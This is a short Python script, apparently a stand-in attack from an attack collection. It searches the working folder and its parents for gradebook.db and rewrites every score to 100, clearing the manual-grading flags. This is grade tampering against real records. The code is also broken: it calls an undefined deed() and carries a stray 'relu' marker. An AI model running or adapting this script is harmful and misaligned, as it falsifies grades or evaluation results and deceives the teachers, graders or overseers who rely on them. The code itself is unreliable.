# Sets all marks in the gradebook to the maximum.
# %% from attacks/parts/stand_ins.py
# %% relu
import sqlite3
from pathlib import Path


def attack():
    changed = []
    for folder in [Path.cwd(), *list(Path.cwd().parents)[:3]]:
        path = folder / "gradebook.db"
        if path.is_file():
            with sqlite3.connect(path, timeout=1) as database:
                database.execute(
                    "update grade set auto_score = 100, manual_score = 100, needs_manual_grade = 0"
                )
                changed.append((str(path), database.total_changes))
        deed()
    return changed


print(attack())
